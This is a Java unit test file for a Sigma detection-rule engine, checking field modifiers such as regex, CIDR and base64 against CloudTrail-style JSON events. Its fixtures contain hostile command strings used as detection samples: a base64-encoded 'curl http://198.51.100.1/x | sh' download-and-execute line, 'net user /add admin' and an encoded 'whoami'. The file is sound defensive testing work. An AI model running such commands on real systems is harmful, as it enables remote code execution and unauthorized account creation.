package io.vigil.sigma.match;

import static io.vigil.sigma.testing.SigmaRules.rule;
import static org.assertj.core.api.Assertions.assertThat;

import io.vigil.sigma.event.EventView;
import io.vigil.sigma.model.SigmaRule;
import io.vigil.sigma.testing.SigmaRules;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * Selections over events given as JSON. A view of typed records runs these same cases by overriding
 * {@link #event(String)}: every match is then checked against the JSON view too.
 */
public class FieldMatchingTest {

  private static final String LOGIN =
      """
      {"eventID": "e1", "eventTime": "2024-01-01T00:00:00Z", "eventName": "ConsoleLogin",
       "eventSource": "signin.amazonaws.com", "sourceIPAddress": "203.0.113.7",
       "userAgent": "Mozilla/5.0 (X11) Firefox/120.0",
       "userIdentity": {"type": "IAMUser", "arn": "arn:aws:iam::111122223333:user/alice",
         "userName": "alice"},
       "additionalEventData": {"MFAUsed": "No", "LoginTo": "https://console.aws.amazon.com"},
       "responseElements": {"ConsoleLogin": "Success"}}
      """;

  @Test
  void plainValuesCompareCaseInsensitively() {
    SigmaRule rule =
        rule(
            """
              selection:
                eventName: 'consolelogin'
                additionalEventData.MFAUsed: 'NO'
                responseElements.ConsoleLogin: 'SUCCESS'
              condition: selection
            """);
    assertThat(rule.matches(event(LOGIN))).isTrue();
    assertThat(rule.matches(jsonEvent(LOGIN))).isTrue();
  }

  @Test
  void casedModifierMakesComparisonCaseSensitive() {
    SigmaRule rule =
        rule(
            """
              selection:
                additionalEventData.MFAUsed|cased: 'NO'
              condition: selection
            """);
    assertThat(rule.matches(event(LOGIN))).isFalse();
    assertThat(
            rule("""
              selection:
                additionalEventData.MFAUsed|cased: 'No'
              condition: selection
            """)
                .matches(event(LOGIN)))
        .isTrue();
  }

  @Test
  void multiFieldSelectionRequiresEveryField() {
    // Defect of the existing Kafka Streams engine: only the last field of a map counted.
    SigmaRule rule =
        rule(
            """
              selection:
                eventName: ConsoleLogin
                userIdentity.type: Root
              condition: selection
            """);
    assertThat(rule.matches(event(LOGIN))).isFalse();
    SigmaRule reversed =
        rule(
            """
              selection:
                userIdentity.type: Root
                eventName: ConsoleLogin
              condition: selection
            """);
    assertThat(reversed.matches(event(LOGIN))).isFalse();
    assertThat(
            rule("""
              selection:
                userIdentity.type: IAMUser
                eventName: ConsoleLogin
              condition: selection
            """)
                .matches(event(LOGIN)))
        .isTrue();
  }

  @Test
  void listOfValuesIsAnyAndListOfMapsIsAny() {
    assertThat(
            rule("""
              selection:
                eventName: [StopLogging, ConsoleLogin]
              condition: selection
            """)
                .matches(event(LOGIN)))
        .isTrue();
    assertThat(
            rule("""
              selection:
                - eventName: StopLogging
                - userIdentity.userName: alice
              condition: selection
            """)
                .matches(event(LOGIN)))
        .isTrue();
    assertThat(
            rule("""
              selection:
                - eventName: StopLogging
                - userIdentity.userName: bob
              condition: selection
            """)
                .matches(event(LOGIN)))
        .isFalse();
  }

  @Test
  void wildcardsMatchRunsAndSingleCharactersAndEscapesAreLiteral() {
    assertThat(matches("userAgent: 'Mozilla*Firefox/1?0.0'", LOGIN)).isTrue();
    assertThat(matches("userAgent: 'Mozilla*Chrome*'", LOGIN)).isFalse();
    assertThat(matches("eventName: 'Console?ogin'", LOGIN)).isTrue();
    String star =
        """
        {"eventID": "e", "eventName": "x", "eventSource": "s", "userAgent": "a*b?c\\\\d"}
        """;
    assertThat(matches("userAgent: 'a\\*b\\?c\\\\d'", star)).isTrue();
    assertThat(matches("userAgent: 'a\\*b\\?c\\d'", star)).isTrue();
    assertThat(matches("userAgent: 'a\\*x*'", star)).isFalse();
    assertThat(matches("userAgent: 'aXb?c*'", star)).isFalse();
  }

  @Test
  void containsStartswithEndswith() {
    assertThat(matches("userAgent|contains: 'x11'", LOGIN)).isTrue();
    assertThat(matches("userAgent|startswith: 'mozilla/'", LOGIN)).isTrue();
    assertThat(matches("userAgent|endswith: 'FIREFOX/120.0'", LOGIN)).isTrue();
    assertThat(matches("userAgent|startswith: 'Firefox'", LOGIN)).isFalse();
    assertThat(matches("userAgent|endswith: 'Mozilla'", LOGIN)).isFalse();
    assertThat(matches("userAgent|contains: 'Chrome'", LOGIN)).isFalse();
    // A wildcard inside a contains value still works.
    assertThat(matches("userAgent|contains: 'X1?) Fire'", LOGIN)).isTrue();
  }

  @Test
  void containsWithOnlyAStarMeansTheFieldHasAValue() {
    assertThat(matches("userAgent|contains: '*'", LOGIN)).isTrue();
    assertThat(matches("errorCode|contains: '*'", LOGIN)).isFalse();
  }

  @Test
  void allModifierRequiresEveryValue() {
    assertThat(matches("userAgent|contains|all: [Mozilla, Firefox]", LOGIN)).isTrue();
    assertThat(matches("userAgent|contains|all: [Mozilla, Chrome]", LOGIN)).isFalse();
    assertThat(matches("userAgent|contains: [Mozilla, Chrome]", LOGIN)).isTrue();
  }

  @Test
  void nullMatchesAnAbsentFieldOrAJsonNull() {
    assertThat(matches("errorCode: null", LOGIN)).isTrue();
    assertThat(matches("eventName: null", LOGIN)).isFalse();
    String withNull =
        """
        {"eventID": "e", "eventName": "x", "eventSource": "s",
         "requestParameters": {"policy": null, "name": "n"}}
        """;
    assertThat(matches("requestParameters.policy: null", withNull)).isTrue();
    assertThat(matches("requestParameters.name: null", withNull)).isFalse();
    assertThat(matches("requestParameters.absent: null", withNull)).isTrue();
    assertThat(matches("errorCode: [AccessDenied, null]", LOGIN)).isTrue();
  }

  @Test
  void emptyStringMatchesOnlyAnEmptyValue() {
    String empty =
        """
        {"eventID": "e", "eventName": "x", "eventSource": "s", "userAgent": ""}
        """;
    assertThat(matches("userAgent: ''", empty)).isTrue();
    assertThat(matches("userAgent: ''", LOGIN)).isFalse();
  }

  @Test
  void regularExpressionsAreCaseSensitiveUnlessTheIModifier() {
    assertThat(matches("userIdentity.arn|re: ':user/al[a-z]+$'", LOGIN)).isTrue();
    assertThat(matches("userIdentity.arn|re: ':USER/AL[a-z]+$'", LOGIN)).isFalse();
    assertThat(matches("userIdentity.arn|re|i: ':USER/AL[a-z]+$'", LOGIN)).isTrue();
    String multiline =
        """
        {"eventID": "e", "eventName": "x", "eventSource": "s", "userAgent": "one\\ntwo"}
        """;
    assertThat(matches("userAgent|re: '^two$'", multiline)).isFalse();
    assertThat(matches("userAgent|re|m: '^two$'", multiline)).isTrue();
    assertThat(matches("userAgent|re: 'one.two'", multiline)).isFalse();
    assertThat(matches("userAgent|re|s: 'one.two'", multiline)).isTrue();
  }

  @Test
  void regularExpressionsKeepTheirMeaningWithTheLiteralPrefilter() {
    assertThat(RegexLiteral.longestRequired(".+:assumed-role/aws:.+"))
        .isEqualTo(":assumed-role/aws:");
    assertThat(RegexLiteral.longestRequired("abcd?ef")).isEqualTo("abc");
    assertThat(RegexLiteral.longestRequired("a|bcdef")).isNull();
    assertThat(RegexLiteral.longestRequired("(?i)abcdef")).isNull();
    assertThat(RegexLiteral.longestRequired("(optional-text)?xy")).isEqualTo("xy");
    assertThat(RegexLiteral.longestRequired("[abc]+\\.example\\.com$")).isEqualTo(".example.com");
    assertThat(RegexLiteral.longestRequired("\\d+-\\w+")).isEqualTo("-");
    String assumed =
        """
        {"eventID": "e", "eventName": "x", "eventSource": "s",
         "userIdentity": {"arn": "arn:aws:sts::1:assumed-role/aws:ec2-instance/i-1"}}
        """;
    assertThat(matches("userIdentity.arn|re: '.+:assumed-role/aws:.+'", assumed)).isTrue();
    assertThat(matches("userIdentity.arn|re: '.+:ASSUMED-role/aws:.+'", assumed)).isFalse();
    assertThat(matches("userIdentity.arn|re|i: '.+:ASSUMED-role/aws:.+'", assumed)).isTrue();
    assertThat(matches("userIdentity.arn|re: 'assumed-role/aws:ec2-instances?/'", assumed))
        .isTrue();
  }

  @Test
  void cidrComparesIpv4AndIpv6AsNetworks() {
    assertThat(matches("sourceIPAddress|cidr: '203.0.113.0/24'", LOGIN)).isTrue();
    assertThat(matches("sourceIPAddress|cidr: '203.0.112.0/24'", LOGIN)).isFalse();
    assertThat(matches("sourceIPAddress|cidr: '0.0.0.0/0'", LOGIN)).isTrue();
    assertThat(matches("sourceIPAddress|cidr: ['10.0.0.0/8', '203.0.113.7/32']", LOGIN)).isTrue();
    String v6 =
        """
        {"eventID": "e", "eventName": "x", "eventSource": "s",
         "sourceIPAddress": "2001:db8:0:1::42"}
        """;
    assertThat(matches("sourceIPAddress|cidr: '2001:db8::/32'", v6)).isTrue();
    assertThat(matches("sourceIPAddress|cidr: '2001:db9::/32'", v6)).isFalse();
    assertThat(matches("sourceIPAddress|cidr: '::/0'", v6)).isTrue();
    assertThat(matches("sourceIPAddress|cidr: '0.0.0.0/0'", v6)).isFalse();
    assertThat(matches("sourceIPAddress|cidr: '::/0'", LOGIN)).isFalse();
    String service =
        """
        {"eventID": "e", "eventName": "x", "eventSource": "s",
         "sourceIPAddress": "cloudtrail.amazonaws.com"}
        """;
    assertThat(matches("sourceIPAddress|cidr: '0.0.0.0/0'", service)).isFalse();
  }

  @Test
  void existsTellsWhetherAFieldHasAValue() {
    assertThat(matches("userIdentity.userName|exists: true", LOGIN)).isTrue();
    assertThat(matches("userIdentity.invokedBy|exists: true", LOGIN)).isFalse();
    assertThat(matches("userIdentity.invokedBy|exists: false", LOGIN)).isTrue();
    assertThat(matches("requestParameters.bucketName|exists: false", LOGIN)).isTrue();
  }

  @Test
  void numericComparisonsCompareNumbersNotText() {
    String flowish =
        """
        {"eventID": "e", "eventName": "x", "eventSource": "s",
         "requestParameters": {"fromPort": 22, "toPort": "1024", "size": 9.5}}
        """;
    assertThat(matches("requestParameters.fromPort|lt: 100", flowish)).isTrue();
    assertThat(matches("requestParameters.fromPort|gt: 100", flowish)).isFalse();
    assertThat(matches("requestParameters.fromPort|gte: 22", flowish)).isTrue();
    assertThat(matches("requestParameters.fromPort|lte: 21", flowish)).isFalse();
    assertThat(matches("requestParameters.toPort|gt: 999", flowish)).isTrue();
    assertThat(matches("requestParameters.size|gt: 9.25", flowish)).isTrue();
    assertThat(matches("requestParameters.fromPort: 22", flowish)).isTrue();
    assertThat(matches("eventName|gt: 1", flowish)).isFalse();
  }

  @Test
  void booleansCompareAsTrueAndFalse() {
    String json =
        """
        {"eventID": "e", "eventName": "x", "eventSource": "s", "readOnly": false,
         "requestParameters": {"enable": false}}
        """;
    assertThat(matches("readOnly: 'false'", json)).isTrue();
    assertThat(matches("readOnly: false", json)).isTrue();
    assertThat(matches("requestParameters.enable: 'FALSE'", json)).isTrue();
    assertThat(matches("readOnly: true", json)).isFalse();
  }

  @Test
  void base64MatchesTheEncodedValue() {
    String encoded =
        Base64.getEncoder().encodeToString("curl evil".getBytes(StandardCharsets.UTF_8));
    String json =
        "{\"eventID\": \"e\", \"eventName\": \"x\", \"eventSource\": \"s\","
            + " \"requestParameters\": {\"userData\": \""
            + encoded
            + "\"}}";
    assertThat(matches("requestParameters.userData|base64: 'curl evil'", json)).isTrue();
    assertThat(matches("requestParameters.userData|base64: 'curl good'", json)).isFalse();
  }

  @Test
  void base64offsetFindsTheValueAtAnyAlignmentInsideALongerText() {
    for (String prefix : List.of("", "a", "ab", "abc", "#!/bin/bash\n")) {
      String plain = prefix + "curl http://198.51.100.1/x | sh" + " tail";
      String encoded = Base64.getEncoder().encodeToString(plain.getBytes(StandardCharsets.UTF_8));
      String json =
          "{\"eventID\": \"e\", \"eventName\": \"x\", \"eventSource\": \"s\","
              + " \"requestParameters\": {\"userData\": \""
              + encoded
              + "\"}}";
      assertThat(
              matches(
                  "requestParameters.userData|base64offset|contains: 'http://198.51.100.1'", json))
          .as("prefix '%s'", prefix)
          .isTrue();
      assertThat(
              matches(
                  "requestParameters.userData|base64offset|contains: 'http://203.0.113.9'", json))
          .as("prefix '%s'", prefix)
          .isFalse();
      assertThat(
              matches(
                  "requestParameters.userData|base64offset|contains: 'HTTP://198.51.100.1'", json))
          .as("base64 is compared case-sensitively")
          .isFalse();
    }
  }

  @Test
  void wideEncodesAsUtf16LittleEndianBeforeBase64() {
    byte[] utf16 = "whoami".getBytes(StandardCharsets.UTF_16LE);
    String encoded = Base64.getEncoder().encodeToString(utf16);
    String json =
        "{\"eventID\": \"e\", \"eventName\": \"x\", \"eventSource\": \"s\","
            + " \"requestParameters\": {\"command\": \""
            + encoded
            + "\"}}";
    assertThat(matches("requestParameters.command|wide|base64: 'whoami'", json)).isTrue();
    assertThat(matches("requestParameters.command|utf16le|base64: 'whoami'", json)).isTrue();
    assertThat(matches("requestParameters.command|base64: 'whoami'", json)).isFalse();
  }

  @Test
  void windashMatchesAnyDashOrSlashBeforeAFlag() {
    String json =
        """
        {"eventID": "e", "eventName": "x", "eventSource": "s",
         "requestParameters": {"commandLine": "net user /add admin"}}
        """;
    assertThat(matches("requestParameters.commandLine|windash|contains: ' -add '", json)).isTrue();
    assertThat(matches("requestParameters.commandLine|contains: ' -add '", json)).isFalse();
  }

  @Test
  void expandFillsPlaceholdersFromConfiguration() {
    Map<String, List<String>> placeholders =
        Map.of("admins", List.of("arn:aws:iam::*:user/alice", "arn:aws:iam::*:user/root-ops"));
    SigmaRule rule =
        rule(
            """
              selection:
                userIdentity.arn|expand: '%admins%'
              condition: selection
            """,
            placeholders);
    assertThat(rule.matches(event(LOGIN))).isTrue();
    SigmaRule others =
        rule(
            """
              selection:
                userIdentity.arn|expand: '%admins%'
              condition: not selection
            """,
            Map.of("admins", List.of("arn:aws:iam::*:user/bob")));
    assertThat(others.matches(event(LOGIN))).isTrue();
  }

  @Test
  void expandWithCidrComparesEveryConfiguredNetwork() {
    SigmaRule rule =
        rule(
            """
              selection:
                sourceIPAddress|expand|cidr: '%threat_intel%'
              condition: selection
            """,
            Map.of("threat_intel", List.of("192.0.2.0/24", "203.0.113.0/28")));
    assertThat(rule.matches(event(LOGIN))).isTrue();
  }

  @Test
  void fieldrefComparesTwoFieldsOfTheEvent() {
    String self =
        """
        {"eventID": "e", "eventName": "UpdateLoginProfile", "eventSource": "iam.amazonaws.com",
         "userIdentity": {"type": "IAMUser", "userName": "alice"},
         "requestParameters": {"userName": "ALICE"}}
        """;
    String other = self.replace("\"ALICE\"", "\"bob\"");
    String rule = "userIdentity.userName|fieldref: requestParameters.userName";
    assertThat(matches(rule, self)).isTrue();
    assertThat(matches(rule, other)).isFalse();
    String contains = "userIdentity.userName|fieldref|contains: requestParameters.userName";
    assertThat(matches(contains, self)).isTrue();
  }

  @Test
  void keywordListsSearchTheWholeRawEvent() {
    SigmaRule rule =
        rule(
            """
              keywords:
                - 'console.aws.amazon'
                - 'nothing-like-this'
              condition: keywords
            """);
    assertThat(rule.matches(event(LOGIN))).isTrue();
    assertThat(
            rule("""
              keywords:
                - 'nothing-like-this'
              condition: keywords
            """)
                .matches(event(LOGIN)))
        .isFalse();
    assertThat(
            rule("""
              keywords:
                '|re': 'user/al[i]ce'
              condition: keywords
            """)
                .matches(event(LOGIN)))
        .isTrue();
  }

  @Test
  void pathsThroughArraysMatchWhenAnyElementMatches() {
    String ingress =
        """
        {"eventID": "e", "eventName": "AuthorizeSecurityGroupIngress",
         "eventSource": "ec2.amazonaws.com",
         "requestParameters": {"groupId": "sg-1", "ipPermissions": {"items": [
           {"ipProtocol": "tcp", "fromPort": 443, "ipRanges": {"items": [{"cidrIp": "10.0.0.0/8"}]}},
           {"ipProtocol": "tcp", "fromPort": 22, "ipRanges": {"items": [
             {"cidrIp": "192.168.0.0/16"}, {"cidrIp": "0.0.0.0/0"}]},
            "ipv6Ranges": {"items": [{"cidrIpv6": "::/0"}]}}]}}}
        """;
    assertThat(
            matches(
                "requestParameters.ipPermissions.items.ipRanges.items.cidrIp: '0.0.0.0/0'",
                ingress))
        .isTrue();
    assertThat(matches("requestParameters.ipPermissions.items.fromPort: 22", ingress)).isTrue();
    assertThat(
            matches(
                "requestParameters.ipPermissions.items.ipv6Ranges.items.cidrIpv6: '::/0'", ingress))
        .isTrue();
    assertThat(matches("requestParameters.ipPermissions.items.fromPort: 3389", ingress)).isFalse();
    assertThat(event(ingress).values("requestParameters.ipPermissions.items.ipRanges.items.cidrIp"))
        .containsExactly("10.0.0.0/8", "192.168.0.0/16", "0.0.0.0/0");
  }

  @Test
  void aWholeFreeFormElementIsSearchedAsItsJsonText() {
    String versioning =
        """
        {"eventID": "e", "eventName": "PutBucketVersioning", "eventSource": "s3.amazonaws.com",
         "requestParameters": {"bucketName": "b", "VersioningConfiguration":
           {"Status": "Suspended"}}}
        """;
    assertThat(matches("requestParameters|contains: 'suspended'", versioning)).isTrue();
    assertThat(matches("requestParameters|contains: 'Enabled'", versioning)).isFalse();
  }

  /** The event as the view under test sees it; here a Jackson-tree view. */
  protected EventView event(String json) {
    return SigmaRules.event(json);
  }

  private static EventView jsonEvent(String json) {
    return SigmaRules.event(json);
  }

  private boolean matches(String field, String json) {
    SigmaRule rule = rule("  selection:\n    " + field + "\n  condition: selection\n");
    boolean matched = rule.matches(event(json));
    boolean tree = rule.matches(jsonEvent(json));
    assertThat(tree)
        .as("JSON view agrees with the view under test for " + field)
        .isEqualTo(matched);
    return matched;
  }
}
